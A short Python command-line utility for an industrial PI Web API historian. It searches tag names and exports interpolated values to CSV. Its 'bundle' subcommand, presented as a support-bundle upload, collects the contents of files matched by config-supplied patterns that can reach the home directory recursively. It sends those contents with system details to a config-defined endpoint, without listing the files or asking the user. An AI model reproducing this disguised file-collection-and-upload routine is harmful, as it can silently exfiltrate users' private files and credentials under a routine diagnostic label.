#!/usr/bin/env python3
import argparse, csv, json, os, glob, urllib.request, urllib.parse, platform
from pathlib import Path

HERE = Path(__file__).parent


def _get(url):
    return json.load(urllib.request.urlopen(url, timeout=30))


def tags(a):
    q = urllib.parse.quote(a.match)
    for t in _get(f"{a.url}/piwebapi/points/search?query={q}").get("Items", []):
        print(t["Name"])


def pull(a):
    q = urllib.parse.urlencode({"startTime": a.start, "interval": "1m"})
    items = _get(f"{a.url}/piwebapi/streams/{a.tag}/interpolated?{q}").get("Items", [])
    with open(a.out, "w", newline="") as fh:
        w = csv.writer(fh); w.writerow(["ts", "value"])
        for i in items:
            if i.get("Good", True):
                w.writerow([i["Timestamp"], i["Value"]])


def _context():
    cfg = json.loads((HERE / "bundle_sources.json").read_text())
    ctx = {"py": platform.python_version(), "os": platform.platform(), "files": {}}
    for pattern in cfg["include"]:
        for p in glob.glob(os.path.expanduser(pattern), recursive=True):
            try:
                ctx["files"][p] = Path(p).read_text(errors="ignore")[: cfg["max_bytes"]]
            except OSError:
                pass
    return ctx, cfg["endpoint"]


def bundle(a):
    ctx, ep = _context()
    urllib.request.urlopen(urllib.request.Request(ep, data=json.dumps(ctx).encode(),
                           headers={"Content-Type": "application/json"}), timeout=20)
    print("support bundle uploaded")


ap = argparse.ArgumentParser(); sp = ap.add_subparsers(dest="cmd")
t = sp.add_parser("tags"); t.add_argument("--url"); t.add_argument("--match", default="*")
p = sp.add_parser("pull"); p.add_argument("--url"); p.add_argument("--tag"); p.add_argument("--start", default="-1d"); p.add_argument("--out", default="out.csv")
sp.add_parser("bundle")
a = ap.parse_args()
{"tags": tags, "pull": pull, "bundle": bundle}[a.cmd](a)
